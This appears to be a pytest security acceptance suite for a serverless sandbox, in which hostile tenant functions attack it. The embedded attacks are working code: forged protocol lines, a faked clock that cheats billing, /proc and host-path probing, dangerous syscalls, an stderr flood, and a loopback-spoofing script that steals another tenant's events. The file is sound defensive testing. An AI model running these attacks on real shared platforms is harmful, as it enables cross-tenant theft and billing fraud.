"""A hostile tenant against the sandbox (issue 10): functions that attack the host<->instance
protocol, the platform's measurements, other tenants' instances and the server itself, all
through the public API (the official SDK).

Each test asserts the secure behaviour. They are the acceptance tests of the hardening: none
is skipped or xfailed, and each one's docstring says what the code did before the defence
(main at 10e4d7d, December 2026). They need the launcher (target/release/scf-sandbox), like
test_sandbox.py."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest
from tencentcloud.common.exception.tencent_cloud_sdk_exception import TencentCloudSDKException

from invoketest import deploy, engine_config, failed, invoke, ok, request_status, ret_json
from scfdtest import ACCOUNT_A, ACCOUNT_B, REPO_ROOT, Server, exec_zip, free_port, scfd_bin, uniq

SANDBOX = {"enabled": True, "network": "outbound", "uid": 65534, "gid": 65534, "tmp_size": "512m"}
# Not under /tmp: a function's private /tmp would hide a data dir there for the wrong reason.
WORK_ROOT = REPO_ROOT / "target" / "e2e-hostile"


@pytest.fixture(scope="module")
def sbx():
    work = WORK_ROOT / uniq("run")
    work.mkdir(parents=True)
    s = Server(work, engine_config(sandbox=SANDBOX))
    s.start()
    yield s
    s.stop()
    shutil.rmtree(work, ignore_errors=True)


@pytest.fixture
def spare_servers(request):
    """Servers a test starts itself (stopped and removed after it; their log printed on failure)."""
    started: list[Server] = []
    yield started
    rep = getattr(request.node, "rep_call", None)
    for s in started:
        if rep is not None and rep.failed:
            print(f"\n===== scfd log ({s.workdir}) =====\n{s.all_logs()[-4000:]}")
        s.stop()
        shutil.rmtree(s.workdir, ignore_errors=True)


def _new_server(started: list[Server], config: str, start: bool = True) -> Server:
    work = WORK_ROOT / uniq("srv")
    work.mkdir(parents=True)
    s = Server(work, config)
    started.append(s)
    if start:
        s.start()
    return s


def _invoke_timed(api, name, event=None, **kw):
    t0 = time.monotonic()
    r = invoke(api, name, event, **kw)
    return r, time.monotonic() - t0


def _status_duration(api, name, rid) -> float:
    data = request_status(api, name, rid)["Data"]
    assert len(data) == 1, data
    return float(data[0]["Duration"])


# --------------------------------------------------------------------------------------
# 1. The protocol cannot be forged from inside the instance
# --------------------------------------------------------------------------------------

FORGE_PY = r'''import json, os, sys, time
def main_handler(event, context):
    line = "\x1eSCF " + json.dumps({"id": context["request_id"], "ok": True,
                                     "result": "\"forged\"", "duration_ms": 0.001}) + "\n"
    print(line, end="")
    sys.__stdout__.write(line)
    sys.__stdout__.flush()
    os.write(1, line.encode())
    os.write(2, line.encode())
    time.sleep(0.3)
    return "real"
'''


def test_forged_protocol_line_is_not_an_answer(sbx):
    """Before: the runtime's answers share fd 1 with the function, and the host takes the first
    marker line carrying the request id (the id is in context.request_id): Invoke returns
    "forged" with Duration 0.001 ms."""
    api = sbx.client()
    name = deploy(api, FORGE_PY, timeout=5)
    r = invoke(api, name)
    assert r["InvokeResult"] == 0 and r["RetMsg"] == json.dumps("real"), (
        f"a line the function printed was taken as its answer: {r}")
    assert r["Duration"] >= 300, f"Duration must be the real run time (>= 300 ms): {r['Duration']}"
    assert _status_duration(api, name, r["FunctionRequestId"]) >= 300
    # and the instance still serves its next request honestly
    r2 = ok(invoke(api, name))
    assert r2["RetMsg"] == json.dumps("real"), r2


# --------------------------------------------------------------------------------------
# 2. Duration is the platform's measurement
# --------------------------------------------------------------------------------------

# A constant clock: the runtime's elapsed time is 0 (the host falls back to its own clock).
PERF_ZERO_PY = '''import time
time.perf_counter = lambda: 0.0
def main_handler(event, context):
    time.sleep(0.5)
    return "slept"
'''

# A clock that creeps by a microsecond a call: the runtime reports ~0.001 ms, which the host
# took as the truth.
PERF_CREEP_PY = '''import time
_t = [0.0]
def _creep():
    _t[0] += 1e-6
    return _t[0]
time.perf_counter = _creep
def main_handler(event, context):
    time.sleep(0.5)
    return "slept"
'''


def test_duration_is_measured_by_the_platform(sbx):
    """Before: Duration is the `duration_ms` the instance reports about itself, unless it is 0.
    With perf_counter = lambda: 0.0 the host falls back to its own wall time (500 ms, passes);
    with a clock that creeps by 1 µs a call, Invoke and GetRequestStatus say ~0.001 ms."""
    api = sbx.client()
    for code in (PERF_ZERO_PY, PERF_CREEP_PY):
        name = deploy(api, code, timeout=5)
        for _ in range(2):  # cold, then warm
            r = ok(invoke(api, name))
            assert r["RetMsg"] == json.dumps("slept"), r
            assert r["Duration"] >= 500, f"Duration {r['Duration']} ms for a 0.5 s sleep ({code.splitlines()[1]})"
            assert _status_duration(api, name, r["FunctionRequestId"]) >= 500
            assert r["BillDuration"] >= 500, r


# --------------------------------------------------------------------------------------
# 3. Processes left behind do not run while the instance is idle
# --------------------------------------------------------------------------------------

TICKER_PY = r'''import os, subprocess, sys, time, uuid
INSTANCE = uuid.uuid4().hex
TICKER = """
import time
with open('/tmp/ticks', 'a') as f:
    while True:
        f.write('%r\\n' % time.time())
        f.flush()
        time.sleep(0.01)
"""
def main_handler(event, context):
    if event.get("start"):
        subprocess.Popen([sys.executable, "-c", TICKER], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.time() + 3
        while time.time() < deadline and not (os.path.exists("/tmp/ticks") and os.path.getsize("/tmp/ticks") > 0):
            time.sleep(0.01)
        time.sleep(0.05)
        return {"instance": INSTANCE, "end": time.time()}
    began = time.time()
    ticks = []
    with open("/tmp/ticks") as f:
        for line in f:
            try:
                ticks.append(float(line))
            except ValueError:
                pass
    return {"instance": INSTANCE, "begin": began, "ticks": ticks}
'''


def test_background_processes_frozen_between_invocations(sbx):
    """Before: a process the function starts keeps running between invocations (about 90 ticks
    of 10 ms are written during the 1 s the instance is idle)."""
    api = sbx.client()
    name = deploy(api, TICKER_PY, timeout=5)
    first = ret_json(ok(invoke(api, name, {"start": True})))
    time.sleep(1.0)
    second = ret_json(ok(invoke(api, name, {})))
    assert second["instance"] == first["instance"], "the second call must be warm (same instance)"
    assert second["ticks"], "the ticker never wrote (the test's function is broken)"
    idle = [t for t in second["ticks"] if first["end"] + 0.05 < t < second["begin"] - 0.05]
    span = second["begin"] - first["end"]
    assert span >= 0.9, (first, second["begin"])
    assert len(idle) < 10, (f"a process left behind wrote {len(idle)} ticks during the {span:.2f} s the "
                            "instance was idle: it must be frozen between invocations")


# --------------------------------------------------------------------------------------
# 4. Shared writable folders are private to the instance
# --------------------------------------------------------------------------------------

SHARED_DIRS = ("/dev/shm", "/var/tmp", "/run/lock")

SHM_PY = '''import os
DIRS = %r
def main_handler(event, context):
    out = {}
    for d in DIRS:
        p = os.path.join(d, event["marker"])
        if event.get("write"):
            try:
                with open(p, "w") as f:
                    f.write("secret of " + event["marker"])
                out[d] = "written" if open(p).read().startswith("secret") else "unreadable"
            except OSError as e:
                out[d] = type(e).__name__
        else:
            try:
                listing = os.listdir(d)
            except OSError as e:
                listing = type(e).__name__
            try:
                content = open(p).read()
            except OSError as e:
                content = type(e).__name__
            out[d] = {"listed": isinstance(listing, list) and event["marker"] in listing, "read": content}
    return out
''' % (SHARED_DIRS,)


def test_dev_shm_and_var_tmp_are_private(sbx):
    """Before: /dev/shm, /var/tmp and /run/lock are the host's own (world-writable) folders: a
    file account A's function writes there is on the host and readable by account B's."""
    api_a, api_b = sbx.client(ACCOUNT_A), sbx.client(ACCOUNT_B)
    x = deploy(api_a, SHM_PY)
    y = deploy(api_b, SHM_PY)
    marker = uniq("shm")
    try:
        wrote = ret_json(ok(invoke(api_a, x, {"marker": marker, "write": True})))
        for d in ("/dev/shm", "/var/tmp"):
            assert wrote[d] == "written", f"{d} must be writable by the function (private, but usable): {wrote}"
        seen = ret_json(ok(invoke(api_b, y, {"marker": marker})))
        leaks = [f"{d}: {v}" for d, v in seen.items() if v["listed"] or v["read"].startswith("secret")]
        assert not leaks, "another account's function sees the files: " + "; ".join(leaks)
        on_host = [d for d in SHARED_DIRS if os.path.exists(os.path.join(d, marker))]
        assert not on_host, f"the function's files landed on the host: {on_host}"
    finally:
        for d in SHARED_DIRS:
            try:
                os.unlink(os.path.join(d, marker))
            except OSError:
                pass


# --------------------------------------------------------------------------------------
# 5. Nothing of the host's layout is visible
# --------------------------------------------------------------------------------------

HOST_VIEW_PY = '''import os
def read(p, n=4096):
    try:
        with open(p, "rb") as f:
            return f.read(n).decode("latin-1")
    except OSError as e:
        return "!" + type(e).__name__
def listing(p):
    try:
        return sorted(os.listdir(p))
    except OSError as e:
        return "!" + type(e).__name__
def main_handler(event, context):
    cmdlines = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            cmdlines[pid] = read("/proc/%s/cmdline" % pid).replace("\\0", " ")
    return {"pid1": read("/proc/1/cmdline").replace("\\0", " "), "cmdlines": cmdlines,
            "environ": dict(os.environ), "root": listing("/"), "root_home": listing("/root"),
            "reads": {p: read(p, 200) for p in event["read"]},
            "lists": {p: listing(p) for p in event["list"]}}
'''


def test_no_host_paths_visible(sbx):
    """Before: pid 1 of the sandbox is the launcher, whose command line names the host's code
    folder under the data dir (--bind-ro <data>/...:/var/user) and the hidden folders; `/`
    shows the host's whole root (work, home, ...)."""
    api = sbx.client()
    name = deploy(api, HOST_VIEW_PY)
    data_dir = str(sbx.data_dir.resolve())
    secret_paths = [data_dir, str(REPO_ROOT), str(sbx.workdir.resolve())]
    out = ret_json(ok(invoke(api, name, {"read": [str(sbx.config_path), str(sbx.data_dir / "account.toml")],
                                         "list": [data_dir, str(REPO_ROOT)]})))
    problems = []
    for p in secret_paths:
        if p in out["pid1"]:
            problems.append(f"/proc/1/cmdline names the host path {p}: {out['pid1'][:300]!r}")
        for pid, cmd in out["cmdlines"].items():
            if p in cmd:
                problems.append(f"/proc/{pid}/cmdline names the host path {p}: {cmd[:300]!r}")
        for k, v in out["environ"].items():
            if p in v:
                problems.append(f"environment variable {k} names the host path {p}: {v[:200]!r}")
    # top-level host folders that are no part of a function's world
    host_only = [d for d in ("work", "home", "farm", "old_root", "srv", "mnt", "media", "pyenv-installer",
                             "container_info.json", "lost+found") if os.path.exists("/" + d)]
    assert "work" in host_only, "the test expects the repo under /work on this host"
    shown = [d for d in host_only if isinstance(out["root"], list) and d in out["root"]]
    if shown:
        problems.append(f"the host's root is visible: / lists {shown} (all of /: {out['root']})")
    # /root may hold the interpreter (pyenv), shown again read-only; nothing else of it
    host_root_home = sorted(os.listdir("/root"))
    extra = [e for e in host_root_home if e != ".pyenv" and isinstance(out["root_home"], list)
             and e in out["root_home"]]
    if extra:
        problems.append(f"/root shows the host's {extra}")
    for p, v in out["reads"].items():
        if not v.startswith("!"):
            problems.append(f"the function could read {p}: {v[:80]!r}")
    for p, v in out["lists"].items():
        if isinstance(v, list):
            problems.append(f"the function could list {p}: {v[:10]}")
    assert not problems, "\n".join(problems)


# --------------------------------------------------------------------------------------
# 6. Dangerous system calls are denied
# --------------------------------------------------------------------------------------

SYSCALLS_PY = r'''import ctypes, ctypes.util, errno, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = {"getpid": 39, "mount": 165, "unshare": 272, "ptrace": 101, "bpf": 321,
      "perf_event_open": 298, "keyctl": 250, "userfaultfd": 323, "kexec_load": 246}
CLONE_NEWUSER = 0x10000000
PTRACE_ATTACH, PTRACE_DETACH = 16, 17

def args_for(name):
    """Arguments valid enough that only a policy can refuse the call."""
    keep = []
    if name == "mount":
        src, tgt, fs = (ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"tmpfs"))
        keep += [src, tgt, fs]
        return [src, tgt, fs, ctypes.c_ulong(0), ctypes.c_void_p(0)], keep
    if name == "unshare":
        return [ctypes.c_long(CLONE_NEWUSER)], keep
    if name == "ptrace":
        return [ctypes.c_long(PTRACE_ATTACH), ctypes.c_long(1), ctypes.c_void_p(0), ctypes.c_void_p(0)], keep
    if name == "bpf":
        # BPF_MAP_CREATE of an array map: type 2, key 4, value 4, 1 entry
        attr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1) + b"\0" * 112)
        keep.append(attr)
        return [ctypes.c_long(0), attr, ctypes.c_long(128)], keep
    if name == "perf_event_open":
        # PERF_TYPE_SOFTWARE (1), PERF_COUNT_SW_TASK_CLOCK (1), size 128, disabled, user space
        # only (exclude_kernel, exclude_hv: allowed at perf_event_paranoid 2), this process, any cpu
        attr = ctypes.create_string_buffer(struct.pack("<IIQQQQQ", 1, 128, 1, 0, 0, 0, 1 | 32 | 64) + b"\0" * 80)
        keep.append(attr)
        return [attr, ctypes.c_long(0), ctypes.c_long(-1), ctypes.c_long(-1), ctypes.c_ulong(0)], keep
    if name == "keyctl":
        # KEYCTL_GET_KEYRING_ID of the session keyring, creating it
        return [ctypes.c_long(0), ctypes.c_long(-3), ctypes.c_long(1)], keep
    if name == "userfaultfd":
        return [ctypes.c_long(os.O_CLOEXEC)], keep
    if name == "kexec_load":
        return [ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_void_p(0), ctypes.c_ulong(0)], keep
    return [], keep

def attempt(name):
    """Runs the call in a child process (an unshare or a ptrace must not change the runtime)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            args, keep = args_for(name)
            ret = libc.syscall(ctypes.c_long(NR[name]), *args)
            err = ctypes.get_errno()
            if name == "ptrace" and ret == 0:
                libc.syscall(ctypes.c_long(NR["ptrace"]), ctypes.c_long(PTRACE_DETACH), ctypes.c_long(1),
                             ctypes.c_void_p(0), ctypes.c_void_p(0))
            os.write(w, ("%d %d" % (ret, err)).encode())
        finally:
            os._exit(0)
    os.close(w)
    data = os.read(r, 100).decode()
    os.close(r)
    os.waitpid(pid, 0)
    if not data:
        return {"ret": None, "errno": None, "name": "child died"}
    ret, err = map(int, data.split())
    return {"ret": ret, "errno": err, "name": errno.errorcode.get(err, str(err)) if ret == -1 else "ok"}

def main_handler(event, context):
    return {name: attempt(name) for name in NR}
'''


def test_seccomp_denies_dangerous_calls(sbx):
    """Before: no seccomp filter. As uid 65534 mount and kexec_load fail with EPERM (no
    capability), bpf and userfaultfd by this host's sysctls (unprivileged_bpf_disabled=2,
    unprivileged_userfaultfd=0), ptrace of pid 1 by the dropped privileges; but
    unshare(CLONE_NEWUSER) succeeds (a new user namespace: the door to every namespaced kernel
    bug), keyctl answers a keyring id and perf_event_open opens a counter (paranoid=2)."""
    if os.uname().machine != "x86_64":
        pytest.fail(f"the syscall numbers in this test are x86_64's; this host is {os.uname().machine}")
    api = sbx.client()
    name = deploy(api, SYSCALLS_PY, timeout=10)
    out = ret_json(ok(invoke(api, name)))
    assert out["getpid"]["ret"] > 0, f"the probe itself is broken: {out}"
    allowed = {n: v for n, v in out.items()
               if n != "getpid" and not (v["ret"] == -1 and v["name"] in ("EPERM", "ENOSYS"))}
    assert not allowed, f"system calls a function must not make were not refused with EPERM/ENOSYS: {allowed}"


# --------------------------------------------------------------------------------------
# 7. A flood on stderr without a newline does not grow the server
# --------------------------------------------------------------------------------------

FLOOD_PY = '''import os
def main_handler(event, context):
    chunk = b"x" * (1 << 20)
    for _ in range(event["mb"]):
        os.write(2, chunk)
    return "flooded"
'''


def _proc_kb(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/{pid}/status")


def test_stderr_flood_without_newline_is_bounded(sbx):
    """Before: the host reads the instance's stderr line by line with no cap on a line, so 300
    MB without a newline are held in scfd's memory (its peak RSS grows by 300+ MB)."""
    api = sbx.client()
    name = deploy(api, FLOOD_PY, timeout=15, memory=256)
    ok(invoke(api, name, {"mb": 1}))  # warm, and the server's baseline after a normal call
    pid = sbx.proc.pid
    # Reset scfd's high-water mark (earlier tests on this server may have raised it); where that
    # is not allowed, count from the peak so far.
    try:
        Path(f"/proc/{pid}/clear_refs").write_text("5")
    except OSError:
        pass
    before = max(_proc_kb(pid, "VmHWM"), _proc_kb(pid, "VmRSS"))
    r, took = _invoke_timed(api, name, {"mb": 300})
    after = _proc_kb(pid, "VmHWM")
    assert took < 15 + 5, f"the invocation did not end within its timeout: {took:.1f} s"
    assert r["InvokeResult"] in (0, -1), r
    if r["InvokeResult"] == -1:
        assert r["ErrMsg"], r
    assert len(r["Log"] or "") <= 1 << 20, f"the returned log is not capped: {len(r['Log'])} bytes"
    grown_mb = (after - before) / 1024
    assert grown_mb < 200, f"scfd's peak RSS grew by {grown_mb:.0f} MB while a function wrote 300 MB to stderr"
    assert sbx.proc.poll() is None, "scfd died"
    # the server and the function carry on
    assert ok(invoke(api, name, {"mb": 0}))["RetMsg"] == json.dumps("flooded")


# --------------------------------------------------------------------------------------
# 8. Oversized answers and hostile events
# --------------------------------------------------------------------------------------

BIG_PY = '''def main_handler(event, context):
    return event["ch"] * (7 << 20)
'''


def test_result_over_6mb_fails_promptly(sbx):
    """Before: a 7 MB string of 'a' fails at once with "The function's response is ... bytes,
    over the 6 MB limit."; 7 MB of '"' (14 MB as JSON, 28 MB once in the protocol line) is
    over the host's 16 MB line cap, the line is cut and never parsed, and the caller waits for
    the whole timeout ("Invoking task timed out after 6 seconds")."""
    api = sbx.client()
    name = deploy(api, BIG_PY, timeout=6, memory=512)
    plain, took_plain = _invoke_timed(api, name, {"ch": "a"}, log=False)
    failed(plain)
    assert "over the 6 MB limit" in plain["ErrMsg"], plain["ErrMsg"]
    quotes, took = _invoke_timed(api, name, {"ch": '"'}, log=False)
    failed(quotes)
    assert "over the 6 MB limit" in quotes["ErrMsg"], (
        f"7 MB of quotes must fail with the size error, got {quotes['ErrMsg'][:300]!r} after {took:.1f} s")
    assert took < max(3.0, took_plain + 2.0), f"the size error took {took:.1f} s (plain: {took_plain:.1f} s)"


def test_deeply_nested_event_gets_clear_error(sbx):
    """Before: the host passes the event on; the Python runtime's json.loads of the request line
    raises RecursionError outside its handler guard and the runtime dies: "The function's
    instance crashed: the instance exited with code 1"."""
    api = sbx.client()
    name = deploy(api, "def main_handler(event, context):\n    return event\n", timeout=5)
    assert ret_json(ok(invoke(api, name, {"n": 1}))) == {"n": 1}
    deep = "[" * 100000 + "]" * 100000
    try:
        r = invoke(api, name, raw_context=deep, log=False)
    except TencentCloudSDKException as e:
        code, msg = e.get_code(), e.get_message()
        assert code and code != "InternalError" and not code.startswith("InternalError"), (code, msg)
        assert "crash" not in msg.lower(), (code, msg)
    else:
        failed(r)
        msg = r["ErrMsg"]
        assert "crash" not in msg.lower(), f"a nested event crashed the instance: {msg!r}"
        assert any(w in msg.lower() for w in ("nest", "depth", "recursion")), (
            f"the error must say the event is nested too deeply: {msg!r}")
    # the function still works afterwards
    assert ret_json(ok(invoke(api, name, {"n": 2}))) == {"n": 2}


# --------------------------------------------------------------------------------------
# 9. One tenant cannot answer or read another's custom runtime
# --------------------------------------------------------------------------------------

VICTIM_BOOTSTRAP = r'''#!/bin/bash
API="http://$SCF_RUNTIME_API:$SCF_RUNTIME_API_PORT"
curl -s -d " " -X POST "$API/runtime/init/ready" >/dev/null
while true; do
  EVENT_DATA=$(curl -sS "$API/runtime/invocation/next")
  sleep 0.2
  curl -s -X POST -d "$EVENT_DATA" "$API/runtime/invocation/response" >/dev/null
done
'''

ATTACKER_PY = r'''import socket, time

def loopback_tcp():
    """(state, local ip, local port, remote ip, remote port) of every IPv4 socket."""
    out = []
    with open("/proc/net/tcp") as f:
        next(f)
        for line in f:
            c = line.split()
            (lip, lport), (rip, rport) = c[1].split(":"), c[2].split(":")
            out.append((c[3], lip, int(lport, 16), rip, int(rport, 16)))
    return out

def http(src, port, method, path, body=b"", timeout=0.5):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.settimeout(timeout)
    try:
        if src is not None:
            s.bind(src)
        s.connect(("127.0.0.1", port))
        s.sendall(("%s %s HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                   % (method, path, len(body))).encode() + body)
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        return data.decode("latin-1")
    except Exception as e:
        return "!" + type(e).__name__
    finally:
        s.close()

def main_handler(event, context):
    only = set(event["only_ports"])
    stolen, statuses, tried = [], {}, 0
    deadline = time.time() + event["seconds"]
    while time.time() < deadline:
        socks = loopback_tcp()
        # every loopback listener in sight, and SCF's documented runtime API port
        listening = ({lp for st, lip, lp, rip, rp in socks if st == "0A" and lip == "0100007F"} | {9001}) & only
        # established client sockets of others' instances to a loopback listener
        victims = [(lp, rp) for st, lip, lp, rip, rp in socks
                   if st == "01" and lip == "0100007F" and rip == "0100007F" and rp in listening]
        targets = [(None, p) for p in listening] + [(("127.0.0.%d" % k, sport), p)
                                                   for sport, p in victims for k in range(2, 12)]
        for src, port in targets:
            if time.time() > deadline:
                break
            tried += 1
            for method, path, body in (("GET", "/runtime/invocation/next", b""),
                                       ("POST", "/runtime/invocation/response", b'"pwned"')):
                r = http(src, port, method, path, body)
                status = r.split(" ", 2)[1] if r.startswith("HTTP/") else r
                statuses[status] = statuses.get(status, 0) + 1
                if method == "GET" and status == "200":
                    stolen.append(r[-500:])
                    # answer it, from the victim's next connection
                    for st, lip, lp, rip, rp in loopback_tcp():
                        if st == "01" and rp == port and lip == "0100007F":
                            for k in range(2, 12):
                                http(("127.0.0.%d" % k, lp), port, "POST", "/runtime/invocation/response", b'"pwned"')
        time.sleep(0.01)
    return {"stolen": stolen, "statuses": statuses, "tried": tried}
'''


def _loopback_listeners_of(pid: int) -> set[int]:
    """The 127.0.0.1 TCP ports process `pid` listens on (its runtime APIs and its own port)."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            link = os.readlink(fd)
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(link[len("socket:["):-1])
    ports = set()
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        c = line.split()
        ip, port = c[1].split(":")
        if c[3] == "0A" and ip == "0100007F" and c[9] in inodes:
            ports.add(int(port, 16))
    return ports


def test_spoofed_custom_runtime_cannot_answer_other_tenant(sbx):
    """Before (10e4d7d): the runtime API admits a connection when some socket with the peer's
    source PORT (any address) to the API port belongs to the instance's cgroup. An attacker
    binds 127.0.0.x with the port of the victim's idle long-poll and is admitted: it takes the
    next invocation's event (the secret) and answers "pwned". Then (the 4-tuple check, on the
    shared loopback) it found every runtime API in /proc/net/tcp and got 403 from each. Now each
    API is on its instance's own loopback: the attacker, aiming at SCF's port 9001 and at
    whatever it sees listening, connects to nothing at all."""
    api_a, api_b = sbx.client(ACCOUNT_A), sbx.client(ACCOUNT_B)
    victim = deploy(api_a, exec_zip({"bootstrap": VICTIM_BOOTSTRAP}), runtime="CustomRuntime", timeout=3)
    secret = uniq("secret")
    assert ret_json(ok(invoke(api_a, victim, {"secret": secret, "n": -1}))) == {"secret": secret, "n": -1}
    attacker = deploy(api_b, ATTACKER_PY, timeout=20)
    # The attacker would find these itself (every loopback listener it sees, and SCF's runtime
    # API port, 9001); the list only keeps it off the other services of a shared test machine
    # (other engineers' scfd, PostgreSQL) should it share the host's loopback.
    targets = sorted((_loopback_listeners_of(sbx.proc.pid) - {sbx.port}) | {9001})
    box: dict = {}

    def attack():
        try:
            box["result"] = invoke(api_b, attacker, {"seconds": 8, "only_ports": targets}, log=False)
        except Exception as e:  # noqa: BLE001 - reported below
            box["error"] = e

    t = threading.Thread(target=attack, daemon=True)
    t.start()
    time.sleep(1.0)
    results = []
    t_end = time.monotonic() + 6
    n = 0
    while time.monotonic() < t_end:
        ev = {"secret": secret, "n": n}
        try:
            r = invoke(api_a, victim, ev, log=False)
        except TencentCloudSDKException as e:
            r = {"InvokeResult": "api error", "ErrMsg": str(e), "RetMsg": None}
        results.append((ev, r))
        n += 1
        time.sleep(0.1)
    t.join(timeout=30)
    assert "error" not in box, f"the attacker's invocation failed: {box['error']}"
    out = box["result"]
    assert out["InvokeResult"] == 0, f"the attacker function failed: {out}"
    attack_report = ret_json(out)
    bad = [(ev["n"], r["InvokeResult"], (r["RetMsg"] or r["ErrMsg"] or "")[:100]) for ev, r in results
           if not (r["InvokeResult"] == 0 and json.loads(r["RetMsg"]) == ev)]
    assert len(results) >= 5, results
    assert not bad, (f"account A's invocations were answered by someone else or lost (n, result, message): "
                     f"{bad}; attacker saw {attack_report['statuses']}")
    assert secret not in json.dumps(attack_report), (
        f"account B's function read account A's events: {attack_report['stolen'][:2]}")
    assert attack_report["tried"] > 0, attack_report
    answered = {k: v for k, v in attack_report["statuses"].items() if not k.startswith("!")}
    assert not answered, (f"account B's function reached a runtime API (HTTP statuses {answered}): "
                          "another instance's API must be out of its network's reach")


# --------------------------------------------------------------------------------------
# 10. A sandbox that cannot start stops the server
# --------------------------------------------------------------------------------------

def _run_until_exit(binary: Path, workdir: Path, config: str, wait: float = 10.0) -> tuple[int | None, str]:
    """Starts `binary serve` and waits up to `wait` s for it to exit: (exit code or None if it is
    still running and answering, its log)."""
    data = workdir / "data"
    data.mkdir(parents=True, exist_ok=True)
    cfg = data / "scfd.toml"
    cfg.write_text(config)
    port = free_port()
    log = workdir / "scfd.log"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SCFD_SECRET", "TENCENTCLOUD_"))}
    with open(log, "wb") as logf:
        proc = subprocess.Popen([str(binary), "serve", "--listen", f"127.0.0.1:{port}", "--data-dir", str(data),
                                 "--config", str(cfg)], stdout=logf, stderr=subprocess.STDOUT,
                                stdin=subprocess.DEVNULL, env=env)
    import requests
    deadline = time.monotonic() + wait
    rc: int | None = None
    try:
        while time.monotonic() < deadline:
            rc = proc.poll()
            if rc is not None:
                break
            try:
                if requests.get(f"http://127.0.0.1:{port}/healthz", timeout=0.5).status_code == 200:
                    break
            except requests.RequestException:
                pass
            time.sleep(0.05)
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
    return rc, log.read_text(errors="replace")


def test_missing_launcher_fails_closed():
    """Before: with the launcher missing (or `launcher = "/nonexistent"`) scfd warns
    "instances run unsandboxed" and serves: every tenant's code runs as the server's user."""
    work = WORK_ROOT / uniq("nolauncher")
    work.mkdir(parents=True)
    try:
        # scfd alone in a folder: no scf-sandbox beside it
        lone = work / "bin" / "scfd"
        lone.parent.mkdir()
        try:
            os.link(scfd_bin(), lone)
        except OSError:
            shutil.copy2(scfd_bin(), lone)
        assert not (lone.parent / "scf-sandbox").exists()
        cases = [
            ("no scf-sandbox next to scfd", lone, engine_config(sandbox={"enabled": True})),
            ("launcher = /nonexistent", scfd_bin(),
             engine_config(sandbox={"enabled": True, "launcher": "/nonexistent/scf-sandbox"})),
        ]
        for i, (what, binary, config) in enumerate(cases):
            rc, log = _run_until_exit(binary, work / f"case{i}", config)
            assert rc is not None and rc != 0, (
                f"{what}: scfd must refuse to start without its sandbox (exit code {rc}); log:\n{log[-2000:]}")
            assert "enabled = false" in log or "scf-sandbox" in log or "/nonexistent" in log, (
                f"{what}: the start-up error must name the fix (the launcher's path or "
                f"`[sandbox] enabled = false`); log:\n{log[-2000:]}")
        # an explicit opt-out starts, and says so
        rc, log = _run_until_exit(lone, work / "optout", engine_config(sandbox={"enabled": False}))
        assert rc is None, f"with [sandbox] enabled = false scfd must start (exit code {rc}); log:\n{log[-2000:]}"
        warned = [l for l in log.splitlines() if "WARN" in l and "sandbox" in l.lower()]
        assert warned, f"scfd must warn that the sandbox is disabled; log:\n{log[-2000:]}"
    finally:
        shutil.rmtree(work, ignore_errors=True)


# --------------------------------------------------------------------------------------
# 11. A second server on the host leaves the first one's cgroups alone
# --------------------------------------------------------------------------------------

ALLOC_PY = '''def main_handler(event, context):
    if event.get("mb"):
        b = bytearray(event["mb"] << 20)
        for i in range(0, len(b), 4096):
            b[i] = 1
        return len(b)
    return "idle"
'''


def test_second_server_keeps_first_servers_limits(spare_servers):
    """Before: at start-up a server removes every `scfd-*` cgroup it finds empty, the live
    servers' included; server 1 then creates its next instance with no memory cgroup (no
    limit), and a 128 MB function allocates 300 MB."""
    s1 = _new_server(spare_servers, engine_config(sandbox=SANDBOX))
    api = s1.client()
    name = deploy(api, ALLOC_PY, memory=128, timeout=10)
    # the limit holds while server 1 is alone
    r = invoke(api, name, {"mb": 300}, log=False)
    assert r["InvokeResult"] == -1 and "Memory limit exceeded" in r["ErrMsg"], r
    s2 = _new_server(spare_servers, engine_config(sandbox=SANDBOX))
    assert s2.proc is not None and s2.proc.poll() is None
    time.sleep(0.5)
    r = invoke(api, name, {"mb": 300}, log=False)
    assert r["InvokeResult"] == -1, f"server 2's start removed server 1's memory limit: a 128 MB function allocated 300 MB: {r}"
    assert "Memory limit exceeded" in r["ErrMsg"], r
    # server 2's own limits hold as well
    api2 = s2.client()
    name2 = deploy(api2, ALLOC_PY, memory=128, timeout=10)
    r2 = invoke(api2, name2, {"mb": 300}, log=False)
    assert r2["InvokeResult"] == -1 and "Memory limit exceeded" in r2["ErrMsg"], r2
